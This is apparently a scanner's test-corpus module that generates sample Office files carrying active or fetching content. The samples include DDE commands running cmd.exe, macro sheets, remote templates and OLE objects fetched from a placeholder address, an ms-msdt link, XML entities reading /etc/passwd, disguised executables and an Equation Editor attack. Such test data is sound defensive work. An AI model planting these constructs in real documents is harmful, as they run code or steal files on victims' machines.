"""Documents of Microsoft Office that run, fetch or hold something."""

from __future__ import annotations

from tests.support.corpus.compound import compound
from tests.support.corpus.formulas import CLASS as EQUATION
from tests.support.corpus.formulas import attack, harmless
from tests.support.corpus.office import (
    OFFICE,
    XML,
    S,
    W,
    document,
    docx,
    package,
    pptx,
    relations,
    sheet,
    workbook,
    xlsx,
)
from tests.support.corpus.packing import zipped
from tests.support.corpus.programs import pe
from tests.support.corpus.sample import INFECTED, NOT_TAKEN, RISKY, samples

RELS = "word/_rels/document.xml.rels"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
VBA = compound(
    {"VBA/dir": b"\x01\x10\xb0" + bytes(40), "VBA/ThisDocument": b"\x01Attribut", "PROJECT": b'ID="{0}"\r\nModule=AutoOpen\r\n'}
)
VBA_TYPE = '<Default Extension="vba" ContentType="application/vnd.ms-office.vbaProject"/>'
PACKAGE = compound({"\x01Ole10Native": b"\0\x02\0\0\x02\0setup.exe\0C:\\setup.exe\0\0\0\x03\0" + pe()})
FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'


def _instruction(*texts: str) -> str:
    return document(FIELD.format("".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)))


def _fetches(kind: str, target: str, body: str = "") -> bytes:
    """A letter with one relationship to something outside."""
    return docx({RELS: relations((kind, target, "External")), **({"word/document.xml": document(body)} if body else {})})


def template(target: str) -> bytes:
    settings = {
        "word/settings.xml": f'{XML}<w:settings {W}><w:attachedTemplate r:id="rId1"/></w:settings>',
        "word/_rels/settings.xml.rels": relations(("attachedTemplate", target, "External")),
        RELS: relations(("settings", "settings.xml")),
    }
    return docx(settings)


def macro_sheet() -> bytes:
    return xlsx(
        {
            "xl/workbook.xml": workbook(
                '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames>'
            ),
            "xl/_rels/workbook.xml.rels": relations(
                ("worksheet", "worksheets/sheet1.xml"), (f"{MICROSOFT}/xlMacrosheet", "macrosheets/sheet1.xml")
            ),
            "xl/macrosheets/sheet1.xml": '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>',
        },
        types='<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
    )


def renamed_macros() -> bytes:
    """The macros under a name and in a folder of no meaning; only their relationship tells."""
    return docx(
        {"word/theme/theme9.dat": VBA, RELS: relations((f"{MICROSOFT}/vbaProject", "theme/theme9.dat"))},
        types=VBA_TYPE.replace('"vba"', '"dat"'),
    )


def dde_workbook() -> bytes:
    link = f'{XML}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
    return xlsx(
        {
            "xl/externalLinks/externalLink1.xml": link,
            "xl/worksheets/sheet1.xml": sheet('<row r="1"><c r="A1"><f>[1]!A0</f></c></row>'),
        }
    )


def reading_pages() -> bytes:
    """Reads a page of the web into the workbook whenever it is opened."""
    page = '<connection id="1" type="4" refreshOnLoad="1"><webPr url="http://192.0.2.1/"/></connection>'
    return xlsx({"xl/connections.xml": f"{XML}<connections {S}>{page}</connections>"})


def add_in() -> bytes:
    """Opens with a pane of somebody's web pages."""
    space = "http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"
    return docx({"word/webextensions/taskpanes.xml": f'{XML}<wetp:taskpanes xmlns:wetp="{space}"/>'})


def active_x() -> bytes:
    control = f'{XML}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{{00024500-0000-0000-C000-000000000046}}" ax:persistence="persistStreamInit"/>'
    return docx(
        {
            "word/activeX/activeX1.xml": control,
            "word/activeX/activeX1.bin": bytes(90),
            RELS: relations(("control", "activeX/activeX1.xml")),
        }
    )


def ole_object(content: bytes, name: str = "word/embeddings/oleObject1.bin") -> bytes:
    return docx({name: content, RELS: relations(("oleObject", name.removeprefix("word/")))})


def entity(parts: str) -> bytes:
    return docx(
        {
            parts: f'{XML}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
        }
    )


RIBBON = '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Run"><ribbon/></customUI>'
OOXML = samples(
    RISKY,
    [
        (
            "macros-as-docx",
            "letter.docx",
            lambda: docx({"word/vbaProject.bin": VBA, RELS: relations((f"{MICROSOFT}/vbaProject", "vbaProject.bin"))}),
        ),
        ("macros-as-xlsx", "budget.xlsx", lambda: xlsx({"xl/vbaProject.bin": VBA})),
        ("macros-as-pptx", "slides.pptx", lambda: pptx({"ppt/vbaProject.bin": VBA})),
        ("macros-renamed", "letter.docx", renamed_macros),
        ("macro-type-as-docx", "letter.docx", lambda: docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("macro-type-as-xlsx", "budget.xlsx", lambda: xlsx(main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        ("macros-in-zip", "letters.zip", lambda: zipped({"letter.docx": docx({"word/vbaProject.bin": VBA})})),
        ("macro-sheet", "budget.xlsx", macro_sheet),
        ("dde", "letter.docx", lambda: docx({"word/document.xml": _instruction(DDE)})),
        ("dde-in-pieces", "letter.docx", lambda: docx({"word/document.xml": _instruction("DD", "EAU", DDE[5:])})),
        ("dde-plain", "letter.docx", lambda: docx({"word/document.xml": _instruction(DDE.replace("DDEAUTO", "DDE"))})),
        ("dde-lower-case", "letter.docx", lambda: docx({"word/document.xml": _instruction(" ddeauto" + DDE[7:])})),
        (
            "dde-simple-field",
            "letter.docx",
            lambda: docx(
                {"word/document.xml": document(f'<w:p><w:fldSimple w:instr="{DDE.replace(chr(34), "&quot;")}"/></w:p>')}
            ),
        ),
        ("dde-in-header", "letter.docx", lambda: docx({"word/header1.xml": _instruction(DDE)})),
        ("dde-workbook", "budget.xlsx", dde_workbook),
        ("template-remote", "letter.docx", lambda: template("http://192.0.2.1/a.dotm")),
        ("template-share", "letter.docx", lambda: template("file:///\\\\192.0.2.1\\share\\a.dotm")),
        (
            "frame-remote",
            "letter.docx",
            lambda: docx({"word/_rels/webSettings.xml.rels": relations(("frame", "http://192.0.2.1/a.docx", "External"))}),
        ),
        ("object-remote", "letter.docx", lambda: _fetches("oleObject", "http://192.0.2.1/a.rtf")),
        (
            "object-html",
            "letter.docx",
            lambda: _fetches("oleObject", "mhtml:http://192.0.2.1/a.html!x-usc:http://192.0.2.1/a.html"),
        ),
        ("sub-document-remote", "letter.docx", lambda: _fetches("subDocument", "http://192.0.2.1/a.docx")),
        ("chunk-remote", "letter.docx", lambda: _fetches("aFChunk", "http://192.0.2.1/a.html")),
        ("picture-from-share", "letter.docx", lambda: _fetches("image", "file://192.0.2.1/share/a.png")),
        (
            "link-to-protocol",
            "letter.docx",
            lambda: _fetches("hyperlink", "ms-msdt:/id PCWDiagnostic /param IT_BrowseForFile=calc"),
        ),
        ("link-to-program", "letter.docx", lambda: _fetches("hyperlink", "file:///\\\\192.0.2.1\\share\\a.exe")),
        (
            "chunk-html",
            "letter.docx",
            lambda: docx({"word/a.html": "<script>alert(1)</script>", RELS: relations(("aFChunk", "a.html"))}),
        ),
        ("connection", "budget.xlsx", reading_pages),
        ("add-in", "letter.docx", add_in),
        ("active-x", "letter.docx", active_x),
        ("object-package", "letter.docx", lambda: ole_object(PACKAGE)),
        (
            "object-equation",
            "letter.docx",
            lambda: ole_object(compound({"Equation Native": harmless()}, EQUATION)),
        ),
        ("object-program", "letter.docx", lambda: ole_object(pe())),
        ("object-in-workbook", "budget.xlsx", lambda: xlsx({"xl/embeddings/oleObject1.bin": PACKAGE})),
        ("object-in-slides", "slides.pptx", lambda: pptx({"ppt/embeddings/oleObject1.bin": PACKAGE})),
        ("embedded-macros", "letter.docx", lambda: ole_object(docx({"word/vbaProject.bin": VBA}), "word/embeddings/letter.docm")),
        ("program-as-picture", "letter.docx", lambda: docx({"word/media/image1.png": pe()})),
        ("entity", "letter.docx", lambda: entity("word/document.xml")),
        ("entity-in-properties", "letter.docx", lambda: entity("docProps/core.xml")),
        (
            "entity-utf-16",
            "letter.docx",
            lambda: docx(
                {
                    "word/document.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'.encode(
                        "utf-16"
                    )
                }
            ),
        ),
        (
            "ribbon",
            "letter.docx",
            lambda: docx(
                {
                    "customUI/customUI.xml": RIBBON,
                    "_rels/.rels": relations(
                        ("officeDocument", "word/document.xml"), (f"{MICROSOFT}/ui/extensibility", "customUI/customUI.xml")
                    ),
                }
            ),
        ),
        (
            "slide-program",
            "slides.pptx",
            lambda: pptx(
                {
                    "ppt/slides/slide1.xml": f'{XML}<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><a:hlinkClick r:id="rId1" action="ppaction://program"/></p:sld>',
                    "ppt/slides/_rels/slide1.xml.rels": relations(
                        ("hyperlink", "file:///C:\\Windows\\System32\\calc.exe", "External")
                    ),
                }
            ),
        ),
    ],
)
TYPES = samples(
    NOT_TAKEN,
    [
        (
            "docm",
            "letter.docm",
            lambda: docx({"word/vbaProject.bin": VBA}, main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        ),
        (
            "xlsm",
            "budget.xlsm",
            lambda: xlsx({"xl/vbaProject.bin": VBA}, main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        ),
        (
            "pptm",
            "slides.pptm",
            lambda: pptx(
                {"ppt/vbaProject.bin": VBA}, main_type="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
            ),
        ),
        (
            "xlam",
            "budget.xlam",
            lambda: xlsx({"xl/vbaProject.bin": VBA}, main_type="application/vnd.ms-excel.addin.macroEnabled.main+xml"),
        ),
        ("dotx", "letter.dotx", lambda: docx(main_type=f"{OFFICE}.wordprocessingml.template.main+xml")),
        (
            "xlsb",
            "budget.xlsb",
            lambda: package(
                "xlsx", {"xl/workbook.bin": bytes(90)}, main_type="application/vnd.ms-excel.sheet.binary.macroEnabled.main"
            ),
        ),
    ],
)
ATTACKS = samples(
    INFECTED,
    [
        ("equation-attack", "letter.docx", lambda: ole_object(compound({"Equation Native": attack()}, EQUATION))),
        ("equation-of-nobody", "letter.docx", lambda: ole_object(compound({"\x01Ole10Native": bytes(300)}, EQUATION))),
    ],
)
ACTIVE_OFFICE = (*OOXML, *TYPES, *ATTACKS)
